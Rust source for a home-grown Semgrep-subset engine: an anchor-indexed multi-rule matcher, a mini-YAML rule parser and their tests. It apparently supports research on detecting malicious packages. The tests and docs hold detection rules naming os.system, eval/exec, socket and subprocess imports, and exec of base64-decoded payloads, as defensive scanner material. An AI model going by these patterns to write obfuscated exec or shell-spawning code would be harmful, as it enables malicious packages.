    /// Pattern-text re-parses on the scan path. The compiled engine is
    /// structurally parse-free (it matches stored ASTs), so this stays 0
    /// by construction; the field is the hub's reporting surface, and the
    /// live tripwire for a reintroduced scan-path parse is the
    /// process-global [`crate::reference::pattern_reparse_count`], which
    /// the CI throughput smoke asserts does not move during a hub run.
    pub pattern_reparses: u64,
}

impl SemgrepMetrics {
    /// Accumulates another pass's counters.
    pub fn absorb(&mut self, other: SemgrepMetrics) {
        self.stmts_visited += other.stmts_visited;
        self.leaf_tests += other.leaf_tests;
        self.pattern_reparses += other.pattern_reparses;
    }
}

/// One dispatchable pre-parsed leaf.
struct LeafEntry<'r> {
    stmt: &'r Stmt,
    rule: usize,
}

/// A rule's operator tree with leaves resolved to [`LeafEntry`] indices.
enum Node {
    Leaf(usize),
    /// A leaf that can never match (unparsable text, unmodelled shape).
    Dead,
    All(Vec<Node>),
    Either(Vec<Node>),
    Not(Box<Node>),
}

/// A compiled multi-rule matcher over one ruleset.
///
/// # Examples
///
/// ```
/// let rules = semgrep_engine::compile(
///     "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
/// )?;
/// let set = semgrep_engine::MatchSet::new(&rules);
/// let mut scratch = semgrep_engine::MatchScratch::default();
/// let module = pysrc::parse_module("eval(x)\n");
/// let (findings, metrics) = set.match_module_set(&module, |_| true, &mut scratch);
/// assert_eq!(findings.len(), 1);
/// assert_eq!(metrics.pattern_reparses, 0);
/// # Ok::<(), semgrep_engine::SemgrepError>(())
/// ```
pub struct MatchSet<'r> {
    rules: &'r CompiledSemgrepRules,
    leaves: Vec<LeafEntry<'r>>,
    trees: Vec<Node>,
    /// Identifier (call head, attribute, bare name) → anchored leaves.
    ident_index: HashMap<&'r str, Vec<u32>>,
    /// Dotted module path → `import` pattern leaves.
    import_index: HashMap<&'r str, Vec<u32>>,
    /// Module path → `from X import` pattern leaves.
    from_import_index: HashMap<&'r str, Vec<u32>>,
    /// Leaves with no sound anchor: tested against every statement.
    always: Vec<u32>,
}

/// Reusable per-worker scratch for [`MatchSet::match_module_set`].
///
/// Slots are invalidated by generation stamps instead of clearing, so a
/// reused scratch costs zero writes per scan beyond the slots actually
/// touched; after warm-up the scan path performs no allocation.
#[derive(Debug, Default)]
pub struct MatchScratch {
    /// Current scan generation; `leaf_lines[i]` is valid iff
    /// `line_stamps[i] == scan_gen`.
    scan_gen: u64,
    line_stamps: Vec<u64>,
    leaf_lines: Vec<Vec<usize>>,
    /// Current statement generation; a leaf is tested at most once per
    /// statement (`tried[i] == stmt_gen` marks it done).
    stmt_gen: u64,
    tried: Vec<u64>,
}

impl MatchScratch {
    /// Creates an empty scratch (sized lazily on first use).
    pub fn new() -> Self {
        Self::default()
    }

    fn begin(&mut self, n_leaves: usize) {
        self.scan_gen += 1;
        if self.line_stamps.len() < n_leaves {
            self.line_stamps.resize(n_leaves, 0);
            self.leaf_lines.resize_with(n_leaves, Vec::new);
            self.tried.resize(n_leaves, 0);
        }
    }

    fn lines(&self, leaf: usize) -> &[usize] {
        if self.line_stamps[leaf] == self.scan_gen {
            &self.leaf_lines[leaf]
        } else {
            &[]
        }
    }
}

impl<'r> MatchSet<'r> {
    /// Builds the anchor index over `rules`. No pattern text is parsed —
    /// the leaves were compiled by [`crate::compile`].
    pub fn new(rules: &'r CompiledSemgrepRules) -> Self {
        let mut set = MatchSet {
            rules,
            leaves: Vec::new(),
            trees: Vec::with_capacity(rules.rules.len()),
            ident_index: HashMap::new(),
            import_index: HashMap::new(),
            from_import_index: HashMap::new(),
            always: Vec::new(),
        };
        for (ri, rule) in rules.rules.iter().enumerate() {
            let tree = set.build_node(&rule.compiled.op, ri);
            set.trees.push(tree);
        }
        set
    }

    fn build_node(&mut self, op: &'r CompiledOp, rule: usize) -> Node {
        match op {
            CompiledOp::Leaf(leaf) => {
                let Some(stmt) = &leaf.stmt else {
                    return Node::Dead;
                };
                if leaf.anchor == Anchor::Dead {
                    return Node::Dead;
                }
                let id = self.leaves.len() as u32;
                self.leaves.push(LeafEntry { stmt, rule });
                match &leaf.anchor {
                    Anchor::Ident(name) => {
                        self.ident_index.entry(name).or_default().push(id);
                    }
                    Anchor::ImportRoot(path) => {
                        self.import_index.entry(path).or_default().push(id);
                    }
                    Anchor::FromImportModule(path) => {
                        self.from_import_index.entry(path).or_default().push(id);
                    }
                    Anchor::Always => self.always.push(id),
                    Anchor::Dead => unreachable!("handled above"),
                }
                Node::Leaf(id as usize)
            }
            CompiledOp::All(children) => {
                Node::All(children.iter().map(|c| self.build_node(c, rule)).collect())
            }
            CompiledOp::Either(children) => {
                Node::Either(children.iter().map(|c| self.build_node(c, rule)).collect())
            }
            CompiledOp::Not(inner) => Node::Not(Box::new(self.build_node(inner, rule))),
        }
    }

    /// Number of dispatchable pattern leaves.
    pub fn leaf_count(&self) -> usize {
        self.leaves.len()
    }

    /// Number of leaves lacking a sound anchor (tested per statement).
    pub fn always_on_count(&self) -> usize {
        self.always.len()
    }

    /// Matches every rule selected by `include` (called with each rule's
    /// file-order index) against `module` in a single AST walk.
    ///
    /// Findings are identical to running [`crate::match_module`] per
    /// selected rule, in rule order with lines ascending.
    pub fn match_module_set(
        &self,
        module: &Module,
        include: impl Fn(usize) -> bool,
        scratch: &mut MatchScratch,
    ) -> (Vec<Finding>, SemgrepMetrics) {
        let mut out = Vec::new();
        let metrics = self.match_module_set_into(module, include, scratch, &mut out);
        (out, metrics)
    }

    /// Like [`MatchSet::match_module_set`], appending findings to a
    /// caller-owned buffer (the hub reuses one per worker).
    pub fn match_module_set_into(
        &self,
        module: &Module,
        include: impl Fn(usize) -> bool,
        scratch: &mut MatchScratch,
        out: &mut Vec<Finding>,
    ) -> SemgrepMetrics {
        scratch.begin(self.leaves.len());
        let mut metrics = SemgrepMetrics::default();
        walk_statements(&module.body, &mut |stmt| {
            metrics.stmts_visited += 1;
            scratch.stmt_gen += 1;
            for i in 0..self.always.len() {
                self.try_leaf(self.always[i], stmt, &include, scratch, &mut metrics);
            }
            match stmt {
                Stmt::Import { modules, .. } => {
                    for m in modules {
                        if let Some(ids) = self.import_index.get(m.path.as_str()) {
                            for &id in ids {
                                self.try_leaf(id, stmt, &include, scratch, &mut metrics);
                            }
                        }
                    }
                }
                Stmt::FromImport { module, .. } => {
                    if let Some(ids) = self.from_import_index.get(module.as_str()) {
                        for &id in ids {
                            self.try_leaf(id, stmt, &include, scratch, &mut metrics);
                        }
                    }
                }
                _ => {}
            }
            for_each_expr_root(stmt, &mut |root| {
                walk_idents(root, &mut |ident| {
                    if let Some(ids) = self.ident_index.get(ident) {
                        for &id in ids {
                            self.try_leaf(id, stmt, &include, scratch, &mut metrics);
                        }
                    }
                });
            });
        });
        for (ri, rule) in self.rules.rules.iter().enumerate() {
            if !include(ri) {
                continue;
            }
            let mut lines = eval_node(&self.trees[ri], scratch);
            if lines.is_empty() {
                continue;
            }
            lines.sort_unstable();
            lines.dedup();
            out.extend(lines.into_iter().map(|line| Finding {
                rule_id: rule.id.clone(),
                line,
                message: rule.message.clone(),
                severity: rule.severity,
            }));
        }
        metrics
    }

    fn try_leaf(
        &self,
        id: u32,
        stmt: &Stmt,
        include: &impl Fn(usize) -> bool,
        scratch: &mut MatchScratch,
        metrics: &mut SemgrepMetrics,
    ) {
        let li = id as usize;
        // A statement can surface the same anchor several times (nested
        // calls); test each leaf once per statement.
        if scratch.tried[li] == scratch.stmt_gen {
            return;
        }
        scratch.tried[li] = scratch.stmt_gen;
        let entry = &self.leaves[li];
        if !include(entry.rule) {
            return;
        }
        metrics.leaf_tests += 1;
        if stmt_matches(entry.stmt, stmt) {
            if scratch.line_stamps[li] != scratch.scan_gen {
                scratch.line_stamps[li] = scratch.scan_gen;
                scratch.leaf_lines[li].clear();
            }
            scratch.leaf_lines[li].push(stmt.line());
        }
    }
}

impl OpNode for Node {
    fn shape(&self) -> OpShape<'_, Self> {
        match self {
            // Dead leaves resolve to no lines via the provider.
            Node::Leaf(_) | Node::Dead => OpShape::Leaf,
            Node::All(children) => OpShape::All(children),
            Node::Either(children) => OpShape::Either(children),
            Node::Not(inner) => OpShape::Not(inner),
        }
    }
}

/// Evaluates one rule's tree over the per-leaf line sets gathered during
/// the walk, through the evaluator shared with the per-rule matcher.
fn eval_node(node: &Node, scratch: &MatchScratch) -> Vec<usize> {
    eval_tree(node, &|n| match n {
        Node::Leaf(li) => scratch.lines(*li).to_vec(),
        Node::Dead => Vec::new(),
        _ => unreachable!("eval_tree resolves only leaf shapes"),
    })
}

/// Yields every identifier a statement's expressions expose: bare names,
/// attribute names, callee heads — the facts [`Anchor::Ident`] keys on.
fn walk_idents<'a>(expr: &'a Expr, f: &mut impl FnMut(&'a str)) {
    match expr {
        Expr::Name(n) => f(n),
        Expr::Attribute { value, attr } => {
            f(attr);
            walk_idents(value, f);
        }
        Expr::Call { func, args } => {
            walk_idents(func, f);
            for a in args {
                walk_idents(&a.value, f);
            }
        }
        Expr::BinOp { left, right, .. } => {
            walk_idents(left, f);
            walk_idents(right, f);
        }
        Expr::Str(_) | Expr::Num(_) | Expr::Other(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rule::compile;

    const POOL: &str = r#"
rules:
  - id: sys
    languages: [python]
    message: m
    pattern: os.system($X)
  - id: dyn
    languages: [python]
    message: m
    pattern-either:
      - pattern: eval($X)
      - pattern: exec($X)
  - id: conj
    languages: [python]
    message: m
    patterns:
      - pattern: open($F, 'w')
      - pattern-not: open('log.txt', 'w')
  - id: opaque
    languages: [python]
    message: m
    pattern: $A(marker_zz)
  - id: imp
    languages: [python]
    message: m
    pattern: import socket
  - id: fromimp
    languages: [python]
    message: m
    pattern: from subprocess import Popen
"#;

    fn ids_and_lines(findings: &[Finding]) -> Vec<(String, usize)> {
        findings
            .iter()
            .map(|f| (f.rule_id.clone(), f.line))
            .collect()
    }

    #[test]
    fn set_matches_equal_per_rule_matches() {
        let rules = compile(POOL).expect("compile");
        let set = MatchSet::new(&rules);
        let mut scratch = MatchScratch::new();
        for src in [
            "import os\nos.system('id')\n",
            "eval(a)\nexec(b)\n",
            "open(p, 'w')\n",
            "open('log.txt', 'w')\n",
            "f(marker_zz)\n",
            "import os, socket\nfrom subprocess import Popen, PIPE\n",
            "print('clean')\n",
            "def f():\n    os.system(x)\n    return eval(y)\n",
        ] {
            let module = pysrc::parse_module(src);
            let (set_findings, metrics) = set.match_module_set(&module, |_| true, &mut scratch);
            let mut per_rule = Vec::new();
            for rule in &rules.rules {
                per_rule.extend(crate::match_module(rule, &module));
            }
            assert_eq!(
                ids_and_lines(&set_findings),
                ids_and_lines(&per_rule),
                "divergence on {src:?}"
            );
            assert_eq!(metrics.pattern_reparses, 0);
        }
    }

    #[test]
    fn include_filters_rules_exactly() {
        let rules = compile(POOL).expect("compile");
        let set = MatchSet::new(&rules);
        let mut scratch = MatchScratch::new();
        let module = pysrc::parse_module("os.system('id')\neval(a)\nimport socket\n");
        for mask in 0u32..(1 << 6) {
            let include = |ri: usize| mask & (1 << ri) != 0;
            let (got, _) = set.match_module_set(&module, include, &mut scratch);
            let mut want = Vec::new();
            for (ri, rule) in rules.rules.iter().enumerate() {
                if include(ri) {
                    want.extend(crate::match_module(rule, &module));
                }
            }
            assert_eq!(ids_and_lines(&got), ids_and_lines(&want), "mask {mask:b}");
        }
    }

    #[test]
    fn scratch_reuse_is_stateless_across_modules() {
        let rules = compile(POOL).expect("compile");
        let set = MatchSet::new(&rules);
        let mut reused = MatchScratch::new();
        let hot = pysrc::parse_module("os.system('id')\neval(a)\n");
        let cold = pysrc::parse_module("print('clean')\n");
        let (hot1, _) = set.match_module_set(&hot, |_| true, &mut reused);
        // A clean module scanned with the dirty scratch must find nothing.
        let (cold1, _) = set.match_module_set(&cold, |_| true, &mut reused);
        assert!(cold1.is_empty(), "stale leaf lines leaked: {cold1:?}");
        let (hot2, _) = set.match_module_set(&hot, |_| true, &mut reused);
        assert_eq!(ids_and_lines(&hot1), ids_and_lines(&hot2));
    }

    #[test]
    fn anchor_dispatch_skips_unrelated_leaves() {
        let rules = compile(POOL).expect("compile");
        let set = MatchSet::new(&rules);
        assert_eq!(set.leaf_count(), 8);
        // Only `opaque` ($A(...)) lacks an anchor.
        assert_eq!(set.always_on_count(), 1);
        let mut scratch = MatchScratch::new();
        let module = pysrc::parse_module("print('hello')\nx = 1\n");
        let (findings, metrics) = set.match_module_set(&module, |_| true, &mut scratch);
        assert!(findings.is_empty());
        // Two statements, and only the single always-on leaf was tested
        // on each: anchored leaves never ran.
        assert_eq!(metrics.stmts_visited, 2);
        assert_eq!(metrics.leaf_tests, 2);
    }

    #[test]
    fn repeated_anchor_tests_leaf_once_per_statement() {
        let rules = compile(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: h($X)\n",
        )
        .expect("compile");
        let set = MatchSet::new(&rules);
        let mut scratch = MatchScratch::new();
        // `h` appears three times in one statement's expressions.
        let module = pysrc::parse_module("h(h(h(x)))\n");
        let (findings, metrics) = set.match_module_set(&module, |_| true, &mut scratch);
        assert_eq!(findings.len(), 1);
        assert_eq!(metrics.leaf_tests, 1);
    }

    #[test]
    fn metrics_absorb_accumulates() {
        let mut a = SemgrepMetrics {
            stmts_visited: 2,
            leaf_tests: 3,
            pattern_reparses: 0,
        };
        a.absorb(SemgrepMetrics {
            stmts_visited: 5,
            leaf_tests: 7,
            pattern_reparses: 1,
        });
        assert_eq!(a.stmts_visited, 7);
        assert_eq!(a.leaf_tests, 10);
        assert_eq!(a.pattern_reparses, 1);
    }
}

//! Mini-YAML parser covering the subset Semgrep rule files use.
//!
//! Supported: nested block mappings and sequences, plain scalars,
//! single/double-quoted scalars, flow sequences (`[python, js]`), literal
//! block scalars (`|`), and comments. Anchors, aliases, tags, multi-doc
//! streams and flow mappings are out of scope — semgrep rules in the wild
//! don't use them.

use std::fmt;

use crate::error::SemgrepError;

/// A parsed YAML value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Yaml {
    /// A block or flow mapping (insertion order preserved).
    Map(Vec<(String, Yaml)>),
    /// A block or flow sequence.
    Seq(Vec<Yaml>),
    /// Any scalar, kept as text.
    Str(String),
    /// Empty value (`key:` with nothing nested).
    Null,
}

impl Yaml {
    /// Looks up a key in a mapping.
    pub fn get(&self, key: &str) -> Option<&Yaml> {
        match self {
            Yaml::Map(entries) => entries.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// Returns the scalar text when this value is a scalar.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Yaml::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Returns the elements when this value is a sequence.
    pub fn as_seq(&self) -> Option<&[Yaml]> {
        match self {
            Yaml::Seq(items) => Some(items),
            _ => None,
        }
    }

    /// Returns the entries when this value is a mapping.
    pub fn as_map(&self) -> Option<&[(String, Yaml)]> {
        match self {
            Yaml::Map(entries) => Some(entries),
            _ => None,
        }
    }
}

impl fmt::Display for Yaml {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Yaml::Str(s) => write!(f, "{s}"),
            Yaml::Null => write!(f, "~"),
            Yaml::Seq(items) => write!(f, "[{} items]", items.len()),
            Yaml::Map(entries) => write!(f, "{{{} keys}}", entries.len()),
        }
    }
}

struct Line {
    indent: usize,
    /// Content with comment stripped; never empty.
    text: String,
    /// 1-based line number in the original source.
    number: usize,
    /// Raw text (for block scalars, comments preserved).
    raw: String,
}

/// Parses a YAML document.
///
/// # Errors
///
/// Returns [`SemgrepError`] with yaml-style messages: `could not find
/// expected ':'`, `bad indentation of a mapping entry`, `unterminated
/// quoted scalar`, `tabs are not allowed for indentation`.
pub fn parse(source: &str) -> Result<Yaml, SemgrepError> {
    let mut lines = Vec::new();
    for (i, raw) in source.lines().enumerate() {
        let number = i + 1;
        if raw.trim_start().starts_with('\t') || leading_has_tab(raw) {
            return Err(SemgrepError::new(
                number,
                "tabs are not allowed for indentation",
            ));
        }
        let stripped = strip_comment(raw);
        let trimmed = stripped.trim_end();
        if trimmed.trim().is_empty() {
            // Preserve raw for block scalars, but mark as blank content.
            lines.push(Line {
                indent: usize::MAX,
                text: String::new(),
                number,
                raw: raw.to_owned(),
            });
            continue;
        }
        let indent = trimmed.len() - trimmed.trim_start().len();
        lines.push(Line {
            indent,
            text: trimmed.trim_start().to_owned(),
            number,
            raw: raw.to_owned(),
        });
    }
    let mut p = YamlParser { lines, pos: 0 };
    p.skip_blank();
    if p.at_end() {
        return Ok(Yaml::Null);
    }
    let indent = p.peek().indent;
    let v = p.block(indent)?;
    p.skip_blank();
    if !p.at_end() {
        return Err(SemgrepError::new(
            p.peek().number,
            "content outside the document structure (bad indentation?)",
        ));
    }
    Ok(v)
}

fn leading_has_tab(raw: &str) -> bool {
    raw.chars()
        .take_while(|c| *c == ' ' || *c == '\t')
        .any(|c| c == '\t')
}

fn strip_comment(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut in_single = false;
    let mut in_double = false;
    let chars: Vec<char> = raw.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\'' if !in_double => in_single = !in_single,
            '"' if !in_single && (!in_double || i == 0 || chars[i - 1] != '\\') => {
                in_double = !in_double;
            }
            // Comments must be preceded by whitespace or start-of-line.
            '#' if !in_single && !in_double && (i == 0 || chars[i - 1] == ' ') => {
                break;
            }
            _ => {}
        }
        out.push(c);
        i += 1;
    }
    out
}

struct YamlParser {
    lines: Vec<Line>,
    pos: usize,
}

impl YamlParser {
    fn at_end(&self) -> bool {
        self.pos >= self.lines.len()
    }

    fn peek(&self) -> &Line {
        &self.lines[self.pos]
    }

    fn skip_blank(&mut self) {
        while !self.at_end() && self.lines[self.pos].indent == usize::MAX {
            self.pos += 1;
        }
    }

    /// Parses a block value whose entries sit at exactly `indent`.
    fn block(&mut self, indent: usize) -> Result<Yaml, SemgrepError> {
        self.skip_blank();
        if self.at_end() || self.peek().indent < indent {
            return Ok(Yaml::Null);
        }
        if self.peek().text.starts_with('-') {
            self.sequence(indent)
        } else {
            self.mapping(indent)
        }
    }

    fn sequence(&mut self, indent: usize) -> Result<Yaml, SemgrepError> {
        let mut items = Vec::new();
        loop {
            self.skip_blank();
            if self.at_end() || self.peek().indent != indent || !self.peek().text.starts_with('-') {
                break;
            }
            let line_no = self.peek().number;
            let rest = self.peek().text[1..].trim_start().to_owned();
            let dash_extra = self.peek().text.len() - self.peek().text[1..].trim_start().len();
            let item_indent = indent + dash_extra.max(2);
            if rest.is_empty() {
                self.pos += 1;
                let child = self.next_indent_at_least(indent + 1)?;
                items.push(self.block(child)?);
            } else if let Some((key, value)) = split_key_value(&rest) {
                // `- key: value` — an inline mapping start. Rewrite the
                // current line as the key/value at the item indent and
                // parse a mapping.
                self.lines[self.pos] = Line {
                    indent: item_indent,
                    text: format!("{key}: {value}").trim_end().to_owned(),
                    number: line_no,
                    raw: self.lines[self.pos].raw.clone(),
                };
                items.push(self.mapping(item_indent)?);
            } else {
                self.pos += 1;
                items.push(Yaml::Str(parse_scalar(&rest, line_no)?));
            }
        }
        Ok(Yaml::Seq(items))
    }

    fn next_indent_at_least(&mut self, min: usize) -> Result<usize, SemgrepError> {
        self.skip_blank();
        if self.at_end() || self.peek().indent < min {
            // Empty item.
            return Ok(min);
        }
        Ok(self.peek().indent)
    }

    fn mapping(&mut self, indent: usize) -> Result<Yaml, SemgrepError> {
        let mut entries: Vec<(String, Yaml)> = Vec::new();
        loop {
            self.skip_blank();
            if self.at_end() || self.peek().indent < indent {
                break;
            }
            if self.peek().indent > indent {
                return Err(SemgrepError::new(
                    self.peek().number,
                    "bad indentation of a mapping entry",
                ));
            }
            if self.peek().text.starts_with('-') {
                break;
            }
            let line_no = self.peek().number;
            let text = self.peek().text.clone();
            let Some((key, value)) = split_key_value(&text) else {
                return Err(SemgrepError::new(line_no, "could not find expected ':'"));
            };
            if entries.iter().any(|(k, _)| *k == key) {
                return Err(SemgrepError::new(line_no, format!("duplicate key `{key}`")));
            }
            if value.is_empty() {
                self.pos += 1;
                self.skip_blank();
                let nested = if !self.at_end() && self.peek().indent > indent {
                    let child = self.peek().indent;
                    self.block(child)?
                } else if !self.at_end()
                    && self.peek().indent == indent
                    && self.peek().text.starts_with('-')
                {
                    // Sequences are allowed at the same indent as the key.
                    self.sequence(indent)?
                } else {
                    Yaml::Null
                };
                entries.push((key, nested));
            } else if value == "|" || value == "|-" {
                self.pos += 1;
                let text = self.block_scalar(indent, value == "|")?;
                entries.push((key, Yaml::Str(text)));
            } else if value.starts_with('[') {
                entries.push((key, flow_seq(&value, line_no)?));
                self.pos += 1;
            } else {
                entries.push((key, Yaml::Str(parse_scalar(&value, line_no)?)));
                self.pos += 1;
            }
        }
        Ok(Yaml::Map(entries))
    }

    /// Literal block scalar: collects raw lines deeper than `indent`.
    fn block_scalar(
        &mut self,
        indent: usize,
        keep_final_newline: bool,
    ) -> Result<String, SemgrepError> {
        let mut raw_lines: Vec<&str> = Vec::new();
        let mut body_indent: Option<usize> = None;
        while !self.at_end() {
            let line = &self.lines[self.pos];
            if line.indent == usize::MAX {
                raw_lines.push("");
                self.pos += 1;
                continue;
            }
            if line.indent <= indent {
                break;
            }
            let bi = *body_indent.get_or_insert(line.indent);
            let raw = line.raw.as_str();
            let cut = raw.len().min(bi);
            raw_lines.push(&raw[cut.min(raw.len())..]);
            self.pos += 1;
        }
        // Trim trailing blank lines that belong to the following structure.
        while raw_lines.last() == Some(&"") {
            raw_lines.pop();
        }
        let mut text = raw_lines.join("\n");
        if keep_final_newline && !text.is_empty() {
            text.push('\n');
        }
        Ok(text)
    }
}

/// Splits `key: value` at the first colon that terminates a plain key.
fn split_key_value(text: &str) -> Option<(String, String)> {
    // Keys are plain scalars without colons; find `: ` or trailing ':'.
    let bytes = text.as_bytes();
    for i in 0..bytes.len() {
        if bytes[i] == b':' && (i + 1 == bytes.len() || bytes[i + 1] == b' ') {
            let key = text[..i].trim().to_owned();
            if key.is_empty() || key.contains('"') || key.contains('\'') {
                return None;
            }
            let value = text[i + 1..].trim().to_owned();
            return Some((key, value));
        }
    }
    None
}

fn parse_scalar(text: &str, line: usize) -> Result<String, SemgrepError> {
    let t = text.trim();
    if let Some(rest) = t.strip_prefix('"') {
        let Some(inner) = rest.strip_suffix('"') else {
            return Err(SemgrepError::new(line, "unterminated quoted scalar"));
        };
        let mut out = String::with_capacity(inner.len());
        let mut chars = inner.chars();
        while let Some(c) = chars.next() {
            if c == '\\' {
                match chars.next() {
                    Some('n') => out.push('\n'),
                    Some('t') => out.push('\t'),
                    Some('"') => out.push('"'),
                    Some('\\') => out.push('\\'),
                    Some(other) => {
                        out.push('\\');
                        out.push(other);
                    }
                    None => return Err(SemgrepError::new(line, "unterminated escape")),
                }
            } else {
                out.push(c);
            }
        }
        return Ok(out);
    }
    if let Some(rest) = t.strip_prefix('\'') {
        let Some(inner) = rest.strip_suffix('\'') else {
            return Err(SemgrepError::new(line, "unterminated quoted scalar"));
        };
        return Ok(inner.replace("''", "'"));
    }
    Ok(t.to_owned())
}

fn flow_seq(text: &str, line: usize) -> Result<Yaml, SemgrepError> {
    let t = text.trim();
    let Some(inner) = t.strip_prefix('[').and_then(|r| r.strip_suffix(']')) else {
        return Err(SemgrepError::new(line, "unterminated flow sequence"));
    };
    let items: Result<Vec<Yaml>, SemgrepError> = inner
        .split(',')
        .map(|s| s.trim())
        .filter(|s| !s.is_empty())
        .map(|s| parse_scalar(s, line).map(Yaml::Str))
        .collect();
    Ok(Yaml::Seq(items?))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_mapping() {
        let y = parse("id: test\nmessage: hello\n").expect("parse");
        assert_eq!(y.get("id").and_then(Yaml::as_str), Some("test"));
        assert_eq!(y.get("message").and_then(Yaml::as_str), Some("hello"));
    }

    #[test]
    fn nested_mapping() {
        let y = parse("metadata:\n  category: security\n  cwe: CWE-78\n").expect("parse");
        let meta = y.get("metadata").expect("metadata");
        assert_eq!(
            meta.get("category").and_then(Yaml::as_str),
            Some("security")
        );
    }

    #[test]
    fn sequence_of_scalars() {
        let y = parse("items:\n  - one\n  - two\n").expect("parse");
        let items = y.get("items").and_then(Yaml::as_seq).expect("seq");
        assert_eq!(items.len(), 2);
        assert_eq!(items[0].as_str(), Some("one"));
    }

    #[test]
    fn sequence_of_mappings() {
        let src = "rules:\n  - id: a\n    message: ma\n  - id: b\n    message: mb\n";
        let y = parse(src).expect("parse");
        let rules = y.get("rules").and_then(Yaml::as_seq).expect("seq");
        assert_eq!(rules.len(), 2);
        assert_eq!(rules[1].get("id").and_then(Yaml::as_str), Some("b"));
    }

    #[test]
    fn flow_sequence() {
        let y = parse("languages: [python, javascript]\n").expect("parse");
        let langs = y.get("languages").and_then(Yaml::as_seq).expect("seq");
        assert_eq!(langs.len(), 2);
        assert_eq!(langs[0].as_str(), Some("python"));
    }

    #[test]
    fn double_quoted_scalar_with_escapes() {
        let y = parse(r#"message: "line1\nline2 \"quoted\"""#).expect("parse");
        assert_eq!(
            y.get("message").and_then(Yaml::as_str),
            Some("line1\nline2 \"quoted\"")
        );
    }

    #[test]
    fn single_quoted_scalar() {
        let y = parse("message: 'it''s fine'\n").expect("parse");
        assert_eq!(y.get("message").and_then(Yaml::as_str), Some("it's fine"));
    }

    #[test]
    fn literal_block_scalar() {
        let src = "pattern: |\n  os.system($X)\n  print($X)\nseverity: ERROR\n";
        let y = parse(src).expect("parse");
        assert_eq!(
            y.get("pattern").and_then(Yaml::as_str),
            Some("os.system($X)\nprint($X)\n")
        );
        assert_eq!(y.get("severity").and_then(Yaml::as_str), Some("ERROR"));
    }

    #[test]
    fn block_scalar_preserves_inner_indent() {
        let src = "pattern: |\n  if x:\n      run()\n";
        let y = parse(src).expect("parse");
        assert_eq!(
            y.get("pattern").and_then(Yaml::as_str),
            Some("if x:\n    run()\n")
        );
    }

    #[test]
    fn comments_stripped() {
        let y = parse("# header\nid: test # trailing\n").expect("parse");
        assert_eq!(y.get("id").and_then(Yaml::as_str), Some("test"));
    }

    #[test]
    fn hash_inside_quotes_kept() {
        let y = parse("message: \"issue #42\"\n").expect("parse");
        assert_eq!(y.get("message").and_then(Yaml::as_str), Some("issue #42"));
    }

    #[test]
    fn empty_value_is_null() {
        let y = parse("metadata:\nid: x\n").expect("parse");
        assert_eq!(y.get("metadata"), Some(&Yaml::Null));
    }

    #[test]
    fn missing_colon_is_error() {
        let e = parse("id test\n").unwrap_err();
        assert!(e.to_string().contains("could not find expected ':'"), "{e}");
    }

    #[test]
    fn tab_indentation_is_error() {
        let e = parse("rules:\n\t- id: x\n").unwrap_err();
        assert!(e.to_string().contains("tabs are not allowed"), "{e}");
    }

    #[test]
    fn duplicate_key_is_error() {
        let e = parse("id: a\nid: b\n").unwrap_err();
        assert!(e.to_string().contains("duplicate key"), "{e}");
    }

    #[test]
    fn unterminated_quote_is_error() {
        let e = parse("message: \"oops\n").unwrap_err();
        assert!(e.to_string().contains("unterminated quoted scalar"), "{e}");
    }

    #[test]
    fn bad_indentation_is_error() {
        let e = parse("a: 1\n    b: 2\n").unwrap_err();
        assert!(
            e.to_string().contains("bad indentation") || e.to_string().contains("outside"),
            "{e}"
        );
    }

    #[test]
    fn full_semgrep_shape() {
        let src = r#"
rules:
  - id: detect-torrent-client-info-retrieval
    languages: [python]
    message: "Detected torrent client info retrieval"
    severity: WARNING
    patterns:
      - pattern: |
          $CLIENT.torrents_info(torrent_hashes=$HASH)
    metadata:
      category: security
"#;
        let y = parse(src).expect("parse");
        let rules = y.get("rules").and_then(Yaml::as_seq).expect("rules");
        let rule = &rules[0];
        assert_eq!(
            rule.get("id").and_then(Yaml::as_str),
            Some("detect-torrent-client-info-retrieval")
        );
        let patterns = rule
            .get("patterns")
            .and_then(Yaml::as_seq)
            .expect("patterns");
        assert!(patterns[0]
            .get("pattern")
            .and_then(Yaml::as_str)
            .expect("pattern")
            .contains("torrents_info"));
    }

    #[test]
    fn empty_document() {
        assert_eq!(parse("").expect("parse"), Yaml::Null);
        assert_eq!(parse("\n\n# only comments\n").expect("parse"), Yaml::Null);
    }
}

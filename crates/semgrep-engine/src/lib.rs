//! `semgrep-engine` — a from-scratch Semgrep subset.
//!
//! Semgrep rules are YAML documents whose patterns are source-language
//! fragments with metavariables (`$X`) and ellipses (`...`). The paper's
//! RuleLLM emits Semgrep rules for malicious-package *code structure*
//! (§II-B, Table I), and its alignment agent needs a compiler that rejects
//! malformed rules with actionable messages (§IV-C). This crate provides:
//!
//! * [`yaml`] — a mini-YAML parser (mappings, sequences, quoted/plain/
//!   block scalars) sufficient for Semgrep's schema;
//! * [`SemgrepRule`] — the rule schema: `id`, `languages`, `message`,
//!   `severity`, `metadata`, and `pattern` / `patterns` /
//!   `pattern-either` / `pattern-not` operators;
//! * a structural [`matcher`](match_module) over the [`pysrc`] AST with
//!   metavariable unification and ellipsis argument matching. Pattern
//!   text is parsed **once at compile time**; [`MatchSet`] then matches
//!   a whole ruleset against a module in a single anchor-dispatched AST
//!   walk, and [`reference`] keeps the seed's reparse-per-call matcher
//!   as the differential oracle.
//!
//! # Examples
//!
//! ```
//! let src = r#"
//! rules:
//!   - id: detect-exec-b64
//!     languages: [python]
//!     message: "exec of base64-decoded payload"
//!     severity: ERROR
//!     pattern: exec(base64.b64decode($X))
//! "#;
//! let rules = semgrep_engine::compile(src)?;
//! let module = pysrc::parse_module("exec(base64.b64decode(data))\n");
//! let findings = semgrep_engine::scan_module(&rules, &module);
//! assert_eq!(findings[0].rule_id, "detect-exec-b64");
//! # Ok::<(), semgrep_engine::SemgrepError>(())
//! ```

#![forbid(unsafe_code)]
